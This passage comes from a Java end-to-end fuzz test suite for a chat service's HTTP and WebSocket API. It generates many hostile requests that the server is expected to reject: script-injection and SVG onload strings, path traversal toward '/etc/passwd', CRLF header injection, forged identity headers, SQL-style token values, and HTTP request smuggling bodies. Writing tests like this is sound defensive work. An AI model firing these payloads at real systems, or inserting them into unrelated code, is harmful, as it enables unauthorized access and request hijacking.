			return new Hostile("avatar-upload", "PUT", "/api/users/me/avatar", headers, t.first(), false,
					t.first().length > 1_048_576 ? Strictness.MAY_CLOSE : Strictness.STRICT);
		};
		Gen<Pair<byte[], String>> images = Gen.frequencyOf(entry(10,
				// Truncated and forged magic bytes under an allowed type.
				Gen.of(new Pair<>(Arrays.copyOf(PNG_SIGNATURE, 4), "image/png"), new Pair<>(new byte[0], "image/png"),
						new Pair<>(utf8("GIF8"), "image/gif"),
						new Pair<>(new byte[] { (byte) 0xFF, (byte) 0xD8 }, "image/jpeg"),
						new Pair<>(utf8("RIFF\0\0\0\0WEB"), "image/webp"),
						new Pair<>(utf8("<html><script>alert(1)</script></html>"), "image/png"),
						new Pair<>(utf8("%PDF-1.4\n%âãÏÓ"), "image/jpeg"),
						new Pair<>(utf8("\u007fELF\u0002\u0001\u0001"), "image/gif"),
						new Pair<>(utf8("PK\u0003\u0004zip"), "image/webp"),
						new Pair<>(utf8("{\"preset\":\"cat\"}"), "image/png"),
						// Types that are images but not allowed, and types that are not
						// images.
						new Pair<>(utf8("<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>"),
								"image/svg+xml"),
						new Pair<>(utf8("BM\0\0\0\0"), "image/bmp"), new Pair<>(utf8("II*\0"), "image/tiff"),
						new Pair<>(utf8("hello"), "application/octet-stream"), new Pair<>(utf8("hello"), "text/plain"),
						new Pair<>(utf8("--x\r\n\r\n--x--"), "multipart/form-data; boundary=x"),
						new Pair<>(PNG_SIGNATURE, "text/html"),
						new Pair<>(utf8("a=b"), "application/x-www-form-urlencoded"),
						new Pair<>(PNG_SIGNATURE, "image/png; charset=\u00ff".replace("\u00ff", "x\"y")))),
				entry(3, Gen.bytes(0, 64).map(b -> new Pair<>(b, "image/png"))),
				entry(3, Gen.bytes(1, 64).map(b -> new Pair<>(concat(PNG_SIGNATURE, b), "image/gif"))),
				// 1 MiB + 1, and far more.
				entry(2, Gen.frequencyOf(entry(8, Gen.just(1_048_577)), entry(1, Gen.just(3 * 1_048_576)))
					.map(size -> new Pair<>(oversizePng(size), "image/png"))));
		Gen<Hostile> presets = Gen
			.of("{\"preset\":123}", "{\"preset\":null}", "{\"preset\":\"\"}", "{\"preset\":\"../../../etc/passwd\"}",
					"{\"preset\":\"no_such_preset_at_all\"}", "{\"preset\":[\"cat\"]}", "{\"preset\":{}}", "{}", "[]",
					"{\"preset\":\"" + "x".repeat(100_000) + "\"}", "{\"preset\":\"%2e%2e\"}")
			.map(b -> jsonCall("avatar-preset", "PUT", "/api/users/me/avatar", token(), b));
		return Gen.frequencyOf(entry(5, images.map(upload)), entry(2, presets),
				entry(1, structuralJunk().filter(b -> b.length() < 1_000_000)
					.map(b -> jsonCall("avatar-preset", "PUT", "/api/users/me/avatar", token(), b))));
	}

	Gen<Hostile> avatarDownload() {
		return foreignOrJunkId().map(id -> new Hostile("avatar-download", "GET", "/api/users/" + id + "/avatar",
				auth(token()), null, false, Strictness.STRICT));
	}

	Gen<Hostile> lookup() {
		Gen<String> query = Gen.oneOf(
				Gen.of("", "q=", "q", "q=%25", "q=_", "q=*", "q=%00", "q=%2e%2e%2f", "q=a&q=b",
						"q=" + fx.peer().username().substring(0, 4) + "%25", "q=%20" + fx.peer().username() + "%20x",
						"q=%E2%80%AE", "q=%0d%0a", "Q=" + fx.peer().username()),
				Gen.strings('a', 'z', 20, 20).map(s -> "q=nobody_" + s),
				Gen.integers(1_000, 3_500).map(n -> "q=" + "y".repeat(n)));
		return query.map(qs -> new Hostile("lookup", "GET", "/api/users/lookup?" + qs, auth(token()), null, false,
				Strictness.STRICT));
	}

	Gen<Hostile> createChat() {
		Gen<String> body = Gen.oneOf(
				objectWithAFault(
						new Field("members", Gen.just("[" + q(fx.third().username()) + "]"), invalidMembers(), true)),
				// A name of the wrong type or hostile content, always with members that
				// cannot exist.
				pairs(invalidMembers(),
						Gen.oneOf(notAString(), hostileText().map(FuzzEndToEndTests::q),
								huge().map(FuzzEndToEndTests::q)))
					.map(t -> "{\"members\":" + t.first() + ",\"name\":" + t.second() + "}"),
				structuralJunk());
		return body.map(b -> jsonCall("create-chat", "POST", "/api/chats", token(), b));
	}

	Gen<Hostile> listChats() {
		return badAuthorization()
			.map(h -> new Hostile("list-chats", "GET", "/api/chats", h, null, false, Strictness.STRICT));
	}

	Gen<Hostile> readChat() {
		return foreignOrJunkId().map(id -> new Hostile("read-chat", "GET", "/api/chats/" + id, auth(token()), null,
				false, Strictness.STRICT));
	}

	Gen<Hostile> addMembers() {
		Gen<Hostile> own = pairs(ownChat(),
				Gen.oneOf(objectWithAFault(new Field("members", Gen.just("[]"), invalidMembers(), true)),
						structuralJunk()))
			.map(t -> jsonCall("add-members", "POST", "/api/chats/" + t.first() + "/members", token(), t.second()));
		Gen<Hostile> foreign = foreignOrJunkId().map(id -> jsonCall("add-members", "POST",
				"/api/chats/" + id + "/members", token(), "{\"members\":[" + q(fx.fuzzer().username()) + "]}"));
		return Gen.oneOf(own, foreign);
	}

	Gen<Hostile> leaveChat() {
		return foreignOrJunkId().map(id -> new Hostile("leave-chat", "DELETE", "/api/chats/" + id + "/members/me",
				auth(token()), null, false, Strictness.STRICT));
	}

	Gen<Hostile> markRead() {
		Gen<Hostile> own = pairs(ownChat(),
				Gen.oneOf(notANumber().map(v -> "{\"seq\":" + v + "}"),
						Gen.of("{\"seq\":null}", "{}", "{\"seq\":-1,\"seq\":\"x\"}"), structuralJunk()))
			.map(t -> jsonCall("mark-read", "POST", "/api/chats/" + t.first() + "/read", token(), t.second()));
		Gen<Hostile> foreign = foreignOrJunkId()
			.map(id -> jsonCall("mark-read", "POST", "/api/chats/" + id + "/read", token(), "{\"seq\":1}"));
		return Gen.oneOf(own, foreign);
	}

	Gen<Hostile> sendMessage() {
		Gen<String> invalidText = Gen
			.oneOf(Gen.of("", " ", "   \n\t  ", "x".repeat(4001), " ".repeat(10) + "y".repeat(4001))
				.map(FuzzEndToEndTests::q), huge().map(FuzzEndToEndTests::q), notAString(), Gen.just("null"));
		Gen<String> invalidClientId = Gen.oneOf(Gen.of("\"\"", "null"), notAString());
		Gen<Hostile> own = pairs(ownChat(),
				Gen.oneOf(objectWithAFault(new Field("text", Gen.just(q("fuzz should never land")), invalidText, true),
						new Field("clientMessageId", random -> q(UUID.randomUUID().toString()), invalidClientId, true)),
						structuralJunk()))
			.map(t -> jsonCall("send-message", "POST", "/api/chats/" + t.first() + "/messages", token(), t.second()));
		Gen<Hostile> foreign = foreignOrJunkId().map(id -> jsonCall("send-message", "POST",
				"/api/chats/" + id + "/messages", token(),
				"{\"text\":\"fuzz should never land\",\"clientMessageId\":" + q(UUID.randomUUID().toString()) + "}"));
		return Gen.oneOf(own, own, foreign);
	}

	Gen<Hostile> history() {
		// Not "", " 1" or "0x10": Spring binds those to null, 1 and 16, which are valid.
		Gen<String> badNumber = Gen.of("-1", "-100", "abc", "1.5", "99999999999999999999", "1e3", "%00", "NaN",
				"1%3BDROP", "-9223372036854775809", "9223372036854775808", "%E2%80%AE", "[1]", "1,2");
		Gen<String> query = Gen.oneOf(badNumber.map(n -> "beforeSeq=" + n), badNumber.map(n -> "afterSeq=" + n),
				Gen.of("-1", "-50", "201", "100000", "abc", "1.5", "99999999999999999999").map(n -> "limit=" + n),
				pairs(badNumber, badNumber).map(t -> "beforeSeq=" + t.first() + "&limit=" + t.second()));
		Gen<Hostile> own = pairs(ownChat(), query).map(t -> new Hostile("history", "GET",
				"/api/chats/" + t.first() + "/messages?" + t.second(), auth(token()), null, false, Strictness.STRICT));
		Gen<Hostile> foreign = foreignOrJunkId().map(id -> new Hostile("history", "GET",
				"/api/chats/" + id + "/messages?limit=50", auth(token()), null, false, Strictness.STRICT));
		return Gen.oneOf(own, own, foreign);
	}

	Gen<Hostile> deleteMessage() {
		Gen<Hostile> notMine = Gen.of(fx.peerMessageIds())
			.flatMap(id -> ownChat().map(chat -> new Hostile("delete-message", "DELETE",
					"/api/chats/" + chat + "/messages/" + id, auth(token()), null, false, Strictness.STRICT)));
		Gen<Hostile> junk = pairs(ownChat(), foreignOrJunkId()).map(t -> new Hostile("delete-message", "DELETE",
				"/api/chats/" + t.first() + "/messages/" + t.second(), auth(token()), null, false, Strictness.STRICT));
		Gen<Hostile> foreign = Gen.of(fx.foreignMessageIds())
			.map(id -> new Hostile("delete-message", "DELETE", "/api/chats/" + fx.foreign() + "/messages/" + id,
					auth(token()), null, false, Strictness.STRICT));
		Gen<Hostile> mineInTheWrongChat = Gen.of(fx.fuzzerMessageIds())
			.map(id -> new Hostile("delete-message", "DELETE", "/api/chats/" + fx.foreign() + "/messages/" + id,
					auth(token()), null, false, Strictness.STRICT));
		return Gen.oneOf(notMine, junk, foreign, mineInTheWrongChat);
	}

	Gen<Hostile> export() {
		Gen<Hostile> own = pairs(ownChat(),
				Gen.of("format=xml", "format=pdf", "format=json%00", "format=..%2F..%2Fetc%2Fpasswd",
						"format=" + "j".repeat(3000), "format=csv", "format=txt%0d%0aX-Injected:1"))
			.map(t -> new Hostile("export", "GET", "/api/chats/" + t.first() + "/export?" + t.second(), auth(token()),
					null, false, Strictness.STRICT));
		Gen<Hostile> foreign = foreignOrJunkId().map(id -> new Hostile("export", "GET",
				"/api/chats/" + id + "/export?format=json", auth(token()), null, false, Strictness.STRICT));
		return Gen.oneOf(own, foreign);
	}

	Gen<Hostile> webSocketOverHttp() {
		// A plain request to the WebSocket endpoint, or an upgrade it must refuse.
		return Gen.of(new Hostile("ws-http", "GET", "/api/ws", auth(token()), null, false, Strictness.STRICT),
				new Hostile("ws-http", "POST", "/api/ws", json(token()), utf8("{\"type\":\"auth\"}"), false,
						Strictness.STRICT),
				new Hostile("ws-http", "GET", "/api/ws", List.<String[]>of(new String[] { "Upgrade", "websocket" },
						new String[] { "Connection", "Upgrade" }, new String[] { "Sec-WebSocket-Version", "99" },
						new String[] { "Sec-WebSocket-Key", "not base64" }), null, true, Strictness.STRICT),
				new Hostile("ws-http", "GET", "/api/ws",
						List.<String[]>of(new String[] { "Upgrade", "h2c" }, new String[] { "Connection", "Upgrade" }),
						null, true, Strictness.STRICT));
		// A valid upgrade with a bad token is accepted and then closed with 4401: the
		// WebSocket property covers it.
	}

	Gen<Hostile> wrongMethods() {
		String chat = "/api/chats/" + fx.direct();
		return Gen
			.of(new String[] { "DELETE", "/api/users/me" }, new String[] { "POST", "/api/users/me" },
					new String[] { "PUT", "/api/chats" }, new String[] { "PATCH", "/api/chats" },
					new String[] { "DELETE", "/api/chats" }, new String[] { "PATCH", chat },
					new String[] { "PUT", chat + "/messages" }, new String[] { "DELETE", chat + "/messages" },
					new String[] { "PATCH", chat + "/messages/" + fx.fuzzerMessageIds().getFirst() },
					new String[] { "PUT", chat + "/read" }, new String[] { "GET", chat + "/read" },
					new String[] { "GET", "/api/auth/login" }, new String[] { "PUT", "/api/auth/signup" },
					new String[] { "DELETE", "/api/users/" + fx.fuzzer().id() + "/avatar" },
					new String[] { "POST", "/api/users/lookup?q=x" }, new String[] { "TRACE", "/api/users/me" },
					new String[] { "FOO", "/api/chats" }, new String[] { "POST", chat + "/export?format=json" },
					new String[] { "GET", "/api/users/me/password" })
			.map(mt -> new Hostile("wrong-method", mt[0], mt[1], json(token()),
					mt[0].equals("GET") || mt[0].equals("TRACE") ? null : utf8("{}"), mt[0].equals("TRACE"),
					Strictness.STRICT));
	}

	Gen<Hostile> unknownPaths() {
		return Gen
			.of("/api", "/api/", "/api/nope", "/api/chats/" + fx.direct() + "/nope", "/api/users", "/api/users/me/nope",
					"/api/auth", "/api/auth/nope", "/internal/sessions/current",
					"/internal/users/online?ids=" + fx.fuzzer().id(),
					"/internal/users/lookup?q=" + fx.peer().username(), "/api/internal/sessions/current",
					"/api/chats/" + fx.direct() + "/messages/" + fx.fuzzerMessageIds().getFirst() + "/nope",
					"/api/%2e%2e/internal/sessions/current", "/api/chats%2f" + fx.foreign())
			.map(path -> new Hostile("unknown-path", "GET", path, auth(token()), null, false, Strictness.STRICT));
	}

	/** Authorization headers that must not authenticate anyone. */
	Gen<List<String[]>> badAuthorization() {
		String token = token();
		Gen<List<String[]>> single = Gen
			.oneOf(Gen.of("Bearer", "Bearer ", "Basic dXNlcjpwYXNzd29yZA==", "Bearer " + token + "x",
					"Bearer " + token.substring(1), "Bearer " + token.substring(0, token.length() - 1), "Bearer null",
					"Bearer undefined", "Bearer ' OR 1=1 --", "Bearer *", "Bearer ../../", "Token " + token, token,
					"Bearer " + token.toUpperCase().replace("BEARER", ""), "Bearer " + "A".repeat(4_000), "Bearer %00",
					"Bearer " + token + " " + token, "Bearer " + UUID.randomUUID(), "Negotiate " + token),
					Gen.strings('0', 'f', 64, 64).map(s -> "Bearer " + s))
			.filter(value -> !value.equals("Bearer " + token))
			.map(value -> {
				List<String[]> headers = new ArrayList<>();
				headers.add(new String[] { "Authorization", value });
				return headers;
			});
		Gen<List<String[]>> none = Gen.just(new ArrayList<>());
		Gen<List<String[]>> twoBad = Gen.just(List.<String[]>of(new String[] { "Authorization", "Bearer nope" },
				new String[] { "Authorization", "Bearer also-nope" }));
		Gen<List<String[]>> forgedIdentity = Gen.of("X-Carrier-User-Id", "X-User-Id", "X-Forwarded-User")
			.map(name -> List.<String[]>of(new String[] { name, fx.peer().id() }));
		return Gen.frequencyOf(entry(8, single), entry(2, none), entry(1, twoBad), entry(2, forgedIdentity));
	}

	Gen<Hostile> badTokens() {
		String chat = "/api/chats/" + fx.direct();
		// Every authenticated call, with a valid body, but no valid token: 401 and
		// nothing done.
		Gen<String[]> call = Gen.of(new String[] { "GET", "/api/users/me", null },
				new String[] { "PATCH", "/api/users/me", "{\"username\":\"fz_stolen_name\"}" },
				new String[] { "PUT", "/api/users/me/password",
						"{\"currentPassword\":" + q(TestUser.PASSWORD) + ",\"newPassword\":\"stolen password\"}" },
				new String[] { "PUT", "/api/users/me/avatar", "{\"preset\":\"cat\"}" },
				new String[] { "GET", "/api/users/lookup?q=" + fx.peer().username(), null },
				new String[] { "POST", "/api/chats", "{\"members\":[" + q(fx.third().username()) + "]}" },
				new String[] { "GET", "/api/chats", null }, new String[] { "GET", chat, null },
				new String[] { "POST", chat + "/members", "{\"members\":[" + q(fx.victim().username()) + "]}" },
				new String[] { "DELETE", "/api/chats/" + fx.group() + "/members/me", null },
				new String[] { "POST", chat + "/read", "{\"seq\":3}" },
				new String[] { "POST", chat + "/messages", "{\"text\":\"stolen\",\"clientMessageId\":\"x1\"}" },
				new String[] { "GET", chat + "/messages", null },
				new String[] { "DELETE", chat + "/messages/" + fx.fuzzerMessageIds().getFirst(), null },
				new String[] { "GET", chat + "/export?format=json", null },
				new String[] { "POST", "/api/auth/logout", null });
		return pairs(call, badAuthorization()).map(t -> {
			List<String[]> headers = new ArrayList<>(t.second());
			if (t.first()[2] != null) {
				headers.add(new String[] { "Content-Type", "application/json" });
			}
			return new Hostile("bad-token", t.first()[0], t.first()[1], headers,
					t.first()[2] == null ? null : utf8(t.first()[2]), false, Strictness.STRICT);
		});
	}

	Gen<Hostile> wrongContentTypes() {
		String chat = "/api/chats/" + fx.direct();
		Gen<String[]> call = Gen.of(
				new String[] { "POST", chat + "/messages", "{\"text\":\"wrong type\",\"clientMessageId\":\"ct-1\"}" },
				new String[] { "POST", chat + "/read", "{\"seq\":3}" },
				new String[] { "PATCH", "/api/users/me", "{\"username\":\"fz_ct_name\"}" },
				new String[] { "POST", "/api/chats", "{\"members\":[" + q(fx.third().username()) + "]}" },
				new String[] { "POST", "/api/auth/signup",
						"{\"username\":\"fz_ct_user\",\"email\":\"fz_ct@example.test\",\"password\":\"long enough\"}" },
				new String[] { "PUT", "/api/users/me/password",
						"{\"currentPassword\":\"x\",\"newPassword\":\"stolen password\"}" },
				new String[] { "POST", "/api/chats/" + fx.group() + "/members",
						"{\"members\":[" + q(fx.victim().username()) + "]}" });
		Gen<String> type = Gen.of("text/plain", "application/xml", "application/x-www-form-urlencoded",
				"multipart/form-data; boundary=x", "application/json;charset=no-such-charset",
				"application/octet-stream", "text/html", "*/*", "application", "");
		return pairs(call, type).map(t -> {
			List<String[]> headers = auth(token());
			if (!t.second().isEmpty()) {
				headers.add(new String[] { "Content-Type", t.second() });
			}
			boolean noType = t.second().isEmpty() || t.second().equals("application") || t.second().equals("*/*");
			return new Hostile("content-type", t.first()[0], t.first()[1], headers, utf8(t.first()[2]), noType,
					Strictness.STRICT);
		});
	}

	Gen<Hostile> rawRequests() {
		String token = token();
		String chat = "/api/chats/" + fx.direct();
		List<String[]> bearer = auth(token);
		// raw-uri: not a URI at all (RFC 3986); WebFlux refuses those before any
		// application code runs.
		List<Hostile> cases = List.of(
				new Hostile("raw-path", "GET", "/api/chats/../../internal/users/online?ids=" + fx.fuzzer().id(), bearer,
						null, true, Strictness.STRICT),
				new Hostile("raw-path", "GET", "/api/users/../../internal/sessions/current", bearer, null, true,
						Strictness.STRICT),
				new Hostile("raw-path", "GET", "/api/chats/" + fx.foreign() + "/../" + fx.foreign() + "/messages",
						bearer, null, true, Strictness.STRICT),
				new Hostile("raw-uri", "GET", "/api/chats/%ZZ", bearer, null, true, Strictness.PROTOCOL),
				new Hostile("raw-uri", "GET", "/api/chats/%", bearer, null, true, Strictness.PROTOCOL),
				new Hostile("raw-uri", "GET", "/api/users/lookup?q=%ZZ", bearer, null, true, Strictness.PROTOCOL),
				new Hostile("raw-uri", "GET", chat + "/messages?limit=%G0", bearer, null, true, Strictness.PROTOCOL),
				new Hostile("raw-uri", "GET", "/api/chats/\u00e9\u00e8", bearer, null, true, Strictness.PROTOCOL),
				new Hostile("raw-uri", "GET", "/api/chats/{chatId}", bearer, null, true, Strictness.PROTOCOL),
				new Hostile("raw-uri", "GET", "/api/chats/<script>", bearer, null, true, Strictness.PROTOCOL),
				new Hostile("raw-path", "GET", "http://127.0.0.1:8081/internal/users/online?ids=" + fx.fuzzer().id(),
						bearer, null, true, Strictness.STRICT),
				new Hostile("raw-path", "GET", "//evil.example/api/users/me", bearer, null, true, Strictness.STRICT),
				new Hostile("raw-protocol", "GET", "/api/chats/a b", bearer, null, true, Strictness.PROTOCOL),
				new Hostile("raw-protocol", "GET", "/api/users/me",
						List.<String[]>of(new String[] { "Authorization", "Bearer " + token + "\u0001" }), null, true,
						Strictness.PROTOCOL),
				new Hostile("raw-protocol", "GET", "/api/users/me",
						List.<String[]>of(new String[] { "Authorization", "Bearer " + token },
								new String[] { "X-Junk", "a".repeat(70_000) }),
						null, true, Strictness.PROTOCOL),
				new Hostile("raw-protocol", "GET", "/api/users/lookup?q=" + "z".repeat(20_000), bearer, null, true,
						Strictness.PROTOCOL),
				new Hostile("raw-protocol", "GET", "/api/users/me",
						List.<String[]>of(new String[] { "Authorization", "Bearer nope\r\n continued" }), null, true,
						Strictness.PROTOCOL),
				new Hostile("raw-protocol", "GET", "/api/users/me",
						List.<String[]>of(new String[] { "Bad Header", "x" },
								new String[] { "Authorization", "Bearer nope" }),
						null, true, Strictness.PROTOCOL),
				// Smuggling: both lengths, and a chunked body that lies; the body itself
				// is invalid anyway.
				new Hostile("raw-protocol", "POST", chat + "/messages",
						List.<String[]>of(new String[] { "Authorization", "Bearer " + token },
								new String[] { "Content-Type", "application/json" },
								new String[] { "Content-Length", "4" },
								new String[] { "Transfer-Encoding", "chunked" }),
						utf8("2\r\n{}\r\n0\r\n\r\nGET /api/users/me HTTP/1.1\r\nHost: x\r\n\r\n"), true,
						Strictness.PROTOCOL),
				new Hostile("raw-protocol", "POST", chat + "/messages",
						List.<String[]>of(new String[] { "Authorization", "Bearer " + token },
								new String[] { "Content-Type", "application/json" },
								new String[] { "Transfer-Encoding", "chunked" }),
						utf8("zz\r\n{}\r\n0\r\n\r\n"), true, Strictness.PROTOCOL),
				new Hostile("raw-protocol", "POST", chat + "/messages",
						List.<String[]>of(new String[] { "Authorization", "Bearer " + token },
								new String[] { "Content-Type", "application/json" },
								new String[] { "Content-Length", "100" }),
						utf8("{\"text\":"), true, Strictness.PROTOCOL),
				new Hostile("raw-protocol", "POST", chat + "/messages",
						List.<String[]>of(new String[] { "Authorization", "Bearer " + token },
								new String[] { "Content-Type", "application/json" },
								new String[] { "Content-Length", "-1" }),
						utf8("{}"), true, Strictness.PROTOCOL));
		return Gen.of(cases);
	}

	// ------------------------------------------------------------------ WebSocket junk

	Gen<List<String>> webSocketFrames() {
		String foreign = fx.foreign();
		Gen<String> frame = Gen.frequencyOf(
				entry(10, Gen.of("", "not json", "{", "[]", "null", "42", "\"typing\"", "{\"type\":null}",
						"{\"type\":42}", "{\"type\":\"unknown\"}",
						"{\"type\":\"TYPING\",\"chatId\":\"" + foreign + "\"}", "{\"type\":\"typing\"}",
						"{\"type\":\"typing\",\"chatId\":null}", "{\"type\":\"typing\",\"chatId\":42}",
						"{\"type\":\"typing\",\"chatId\":[\"" + foreign + "\"]}",
						"{\"type\":\"typing\",\"chatId\":\"" + foreign + "\"}",
						"{\"type\":\"typing\",\"chatId\":\"" + foreign + "\",\"type\":\"typing\"}",
						"{\"type\":\"typing\",\"chatId\":\"" + UUID.randomUUID() + "\"}",
						"{\"type\":\"typing\",\"chatId\":\"../" + foreign + "\"}",
						"{\"type\":\"typing\",\"chatId\":\""
								+ foreign + "\",\"userId\":\"" + fx.victimFriend().id() + "\"}",
						"{\"type\":\"auth\",\"token\":\"nope\"}", "{\"type\":\"auth\",\"token\":42}",
						"{\"type\":\"message.created\",\"message\":{\"chatId\":\"" + foreign
								+ "\",\"text\":\"spoof\"}}",
						"{\"type\":\"read\",\"chatId\":\"" + foreign + "\",\"seq\":99}", "\u0000\u0001", "\uFEFF{}",
						deep(50_000, "[", "]"), "{\"type\":\"typing\",\"chatId\":\"" + "x".repeat(100_000) + "\"}")),
				entry(1, Gen.integers(70_000, 1_100_000).map(n -> "{\"type\":\"" + "t".repeat(n) + "\"}")),
				entry(3, hostileText()));
		return Gen.listOf(frame, 25, 25);
	}

	/** A raw WebSocket that records how the server closes it; frames may be anything. */
	static final class JunkSocket implements WebSocket.Listener, AutoCloseable {

		private final CompletableFuture<Integer> closed = new CompletableFuture<>();

		private final CompletableFuture<Void> ready = new CompletableFuture<>();

		private WebSocket socket;

		static JunkSocket open() {
			JunkSocket listener = new JunkSocket();
			URI uri = URI.create(CarrierApi.BASE.toString().replaceFirst("^http", "ws") + "/api/ws");
			listener.socket = HttpClient.newHttpClient()
				.newWebSocketBuilder()
				.connectTimeout(Duration.ofSeconds(5))
				.buildAsync(uri, listener)
				.join();
			return listener;
		}

		/**
		 * Authenticated in the handshake ({@code bearer.<token>} subprotocol), as the web
		 * app is.
		 */
		static JunkSocket authenticated(String token) {
			JunkSocket listener = new JunkSocket();
			listener.socket = EventSocket.openWithToken(EventSocket.GATEWAY_WS, token, listener);
			listener.ready.orTimeout(10, TimeUnit.SECONDS).join();
			return listener;
		}

		void sendText(String text) {
			try {
				socket.sendText(text, true).get(10, TimeUnit.SECONDS);
			}
			catch (Exception ex) {
				// The server closed the socket, possibly mid-frame; the close code tells
				// why. Its close
				// frame can trail the failed write by a few seconds on a loaded machine.
				awaitClose(Duration.ofSeconds(5));
				if (!closed.isDone()) {
					closed.complete(1006);
				}
			}
		}

		void awaitClose(Duration atMost) {
			try {
				closed.get(atMost.toMillis(), TimeUnit.MILLISECONDS);
			}
			catch (Exception ex) {
				// still open
			}
		}

		int closeCode() {
			return closed.isDone() ? closed.join() : -1;
		}

		@Override
		public void onOpen(WebSocket webSocket) {
			webSocket.request(Long.MAX_VALUE);
		}

		@Override
		public CompletionStage<?> onText(WebSocket webSocket, CharSequence data, boolean last) {
			if (data.toString().contains("\"ready\"")) {
				ready.complete(null);
			}
			return null;
		}

		@Override
		public CompletionStage<?> onClose(WebSocket webSocket, int statusCode, String reason) {
			closed.complete(statusCode);
			ready.completeExceptionally(new IllegalStateException("closed " + statusCode + " " + reason));
			return null;
		}

		@Override
		public void onError(WebSocket webSocket, Throwable error) {
			closed.complete(1006);
			ready.completeExceptionally(error);
		}

		@Override
		public void close() {
			if (!closed.isDone()) {
				socket.abort();
			}
		}

	}

	/** Two values drawn together. */
	record Pair<A, B>(A first, B second) {
	}

	static <A, B> Gen<Pair<A, B>> pairs(Gen<? extends A> first, Gen<? extends B> second) {
		return random -> new Pair<>(first.next(random), second.next(random));
	}

}
